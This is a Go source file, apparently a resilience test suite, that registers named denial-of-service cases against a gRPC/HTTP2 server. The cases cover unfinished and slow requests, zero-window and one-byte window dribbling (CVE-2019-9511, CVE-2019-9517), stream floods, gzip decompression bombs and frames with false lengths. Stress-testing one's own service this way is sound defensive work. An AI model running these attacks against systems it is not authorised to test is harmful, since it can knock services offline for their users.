package main

import (
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"time"

	"golang.org/x/net/http2"
)

// Calls: unfinished, unread, endless, too many, or not what they say.

func init() {
	const streams = 256 // the server's limit on a connection

	// The longest request that is allowed, without its last byte.
	unfinished := redirectRequest("http://s1.origin-cluster/" + string(bytes.Repeat([]byte{'a'}, 8000)))
	unfinished = unfinished[:len(unfinished)-1]
	// The same of a message that is too long for a URL, but not for a request.
	longest := framed(append([]byte{0x0a, 0xdd, 0x5d}, bytes.Repeat([]byte{'a'}, 11_997)...))
	longest = longest[:len(longest)-1]

	begun := func(name, what string, connections int, begin func(*conn) error) {
		add(attack{name: name, port: grpcPort, what: what, run: each(connections, settings{}, func(c *conn) error {
			for range streams {
				if err := begin(c); err != nil {
					return err
				}
			}
			return c.hold()
		})})
	}
	// leftOpen begins a call with this data, and does not end its request.
	leftOpen := func(path string, data []byte) func(*conn) error {
		return func(c *conn) error {
			id := c.begin(path)
			if err := c.awaitWindow(len(data)); err != nil {
				return err
			}
			must(c.WriteData(id, false, data))
			return c.send()
		}
	}
	begun("unfinished", "13 connections with 256 requests each of 12 000 bytes that lack their last byte.", 13,
		leftOpen(redirectPath, longest))
	begun("unfinished-200", "The same on 200 connections.", 200, leftOpen(redirectPath, longest))
	begun("unfinished-whole", "13 connections with 256 whole requests each, whose streams are left open.", 13,
		leftOpen(redirectPath, exampleRequest))
	begun("unfinished-metadata", "13 connections with 256 calls each that have 200 fields of metadata and no request.", 13,
		func(c *conn) error {
			c.begin(redirectPath, shortFields(200)...)
			return c.send()
		})
	begun("unfinished-proxied", "13 connections with 256 requests each of health watches that lack their last byte.", 13,
		leftOpen(watchPath, longest))

	add(attack{name: "half-sent-bytes", port: grpcPort,
		what: "13 connections with 256 half-sent requests each, one byte a DATA frame.",
		run: each(13, settings{}, func(c *conn) error {
			for range streams {
				c.begin(redirectPath)
			}
			for i := range len(unfinished) {
				for s := range uint32(streams) {
					must(c.WriteData(2*s+1, false, unfinished[i:i+1]))
				}
				if err := c.awaitWindow(streams); err != nil {
					return err
				}
				if err := c.send(); err != nil {
					return err
				}
			}
			return c.hold()
		})})

	zeroWindow := settings{values: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}}
	add(attack{name: "zero-windows", port: grpcPort,
		what: "200 connections with windows of zero and 256 unread answers each, which then go all at once.",
		run: each(200, zeroWindow, func(c *conn) error {
			for range streams {
				c.call(redirectPath, exampleRequest)
			}
			if err := c.send(); err != nil {
				return err
			}
			return c.hold()
		})})
	add(attack{name: "zero-windows-churn", port: grpcPort,
		what: "The same, but the connections go and come back all the time.",
		run: each(200, zeroWindow, func(c *conn) error {
			for range streams {
				c.call(redirectPath, exampleRequest)
			}
			if err := c.send(); err != nil {
				return err
			}
			time.Sleep(500 * time.Millisecond)
			return nil
		})})
	add(attack{name: "window-dribble", port: grpcPort,
		what: "Answers that are let out one byte at a time (CVE-2019-9511, CVE-2019-9517).",
		run: each(4, zeroWindow, func(c *conn) error {
			return c.churn(1, func() {
				first := c.lastID + 2
				for range 100 {
					c.call(redirectPath, exampleRequest)
				}
				for range 90 {
					for s := range uint32(100) {
						must(c.WriteWindowUpdate(first+2*s, 1))
					}
				}
			})
		})})
	add(attack{name: "unread", port: grpcPort,
		what: "50 connections that call without end and read no answer (CVE-2019-9517).",
		run: each(50, settings{unread: true}, func(c *conn) error {
			return c.churn(100, func() { c.call(redirectPath, exampleRequest) })
		})})

	add(attack{name: "overload", port: grpcPort,
		what: "200 connections that call as fast as they can.",
		run: each(200, settings{}, func(c *conn) error {
			return c.churn(50, func() { c.call(redirectPath, exampleRequest) })
		})})
	add(attack{name: "overload-one", port: grpcPort,
		what: "One connection that calls as fast as it can.",
		run: each(1, settings{}, func(c *conn) error {
			return c.churn(200, func() { c.call(redirectPath, exampleRequest) })
		})})
	add(attack{name: "overload-proxied", port: grpcPort,
		what: "50 connections that call the health service as fast as they can.",
		run: each(50, settings{}, func(c *conn) error {
			return c.churn(20, func() { c.call("/grpc.health.v1.Health/Check", watchRequest) })
		})})
	add(attack{name: "too-many-streams", port: grpcPort,
		what: "Connections that open 10 000 streams more than they may.",
		run: each(4, settings{}, func(c *conn) error {
			for range streams {
				c.begin(redirectPath)
			}
			return c.churn(200, func() { c.begin(redirectPath) })
		})})
	add(attack{name: "rejections", port: grpcPort,
		what: "Calls that are rejected: URLs with an error, and methods that do not exist.",
		run: each(4, settings{}, func(c *conn) error {
			long := redirectRequest("http://10.0.0.5/" + string(bytes.Repeat([]byte("%zz"), 2000)))
			return c.churn(5, func() {
				c.call(redirectPath, long)
				c.call("/no.such.Service/Method", watchRequest)
			})
		})})

	begun("watches", "40 connections with 256 endless health watches each.", 40,
		func(c *conn) error {
			c.call(watchPath, watchRequest)
			return c.send()
		})
	begun("reflection-streams", "40 connections with 256 reflection streams each, that are left open.", 40,
		leftOpen(reflectionPath, listServices))
	add(attack{name: "reflection-unread", port: grpcPort,
		what: "Reflection streams that ask without end, and whose answers no window lets out.",
		run: each(4, zeroWindow, func(c *conn) error {
			for range streams {
				c.begin(reflectionPath)
			}
			return c.churn(1, func() {
				for s := range uint32(streams) {
					must(c.WriteData(2*s+1, false, listServices))
				}
			})
		})})

	var bomb bytes.Buffer
	zip, _ := gzip.NewWriterLevel(&bomb, gzip.BestCompression)
	_, _ = zip.Write(make([]byte, 10<<20))
	_ = zip.Close()
	message := append(binary.BigEndian.AppendUint32([]byte{1}, uint32(bomb.Len())), bomb.Bytes()...)
	for _, path := range []string{redirectPath, watchPath} {
		name := map[string]string{redirectPath: "gzip-bombs", watchPath: "gzip-bombs-proxied"}[path]
		add(attack{name: name, port: grpcPort,
			what: "Requests of 10 KiB of gzip that unpack to 10 MiB, to " + path + ".",
			run: each(4, settings{}, func(c *conn) error {
				for {
					c.call(path, message, "grpc-encoding", "gzip")
					if err := c.awaitWindow(len(message)); err != nil {
						return err
					}
					if err := c.send(); err != nil {
						return err
					}
				}
			})})
	}

	add(attack{name: "lying-lengths", port: grpcPort,
		what: "Messages that say they are 4 GiB, or one byte longer or shorter than they are; content lengths that lie.",
		run: each(4, settings{}, func(c *conn) error {
			return c.churn(20, func() {
				c.call(redirectPath, append([]byte{0, 0xff, 0xff, 0xff, 0xff}, "a"...))
				c.call(redirectPath, exampleRequest[:len(exampleRequest)-1])
				c.call(redirectPath, append(bytes.Clone(exampleRequest), 0))
				c.call(redirectPath, exampleRequest, "content-length", "9223372036854775807")
				c.call(redirectPath, exampleRequest, "content-length", "0")
				c.call(redirectPath, []byte{7, 0, 0, 0, 0})
			})
		})})
	add(attack{name: "lying-frames", port: grpcPort,
		what: "Frames that say they are 16 MiB, or shorter than their fields.",
		run: each(20, settings{}, func(c *conn) error {
			return c.churn(1, func() {
				c.buffer.Write([]byte{0xff, 0xff, 0xff, byte(http2.FrameData), 0, 0, 0, 0, 1})
				c.buffer.Write(make([]byte, 4096))
				must(c.WriteRawFrame(http2.FramePing, 0, 0, []byte{1}))
			})
		})})
}
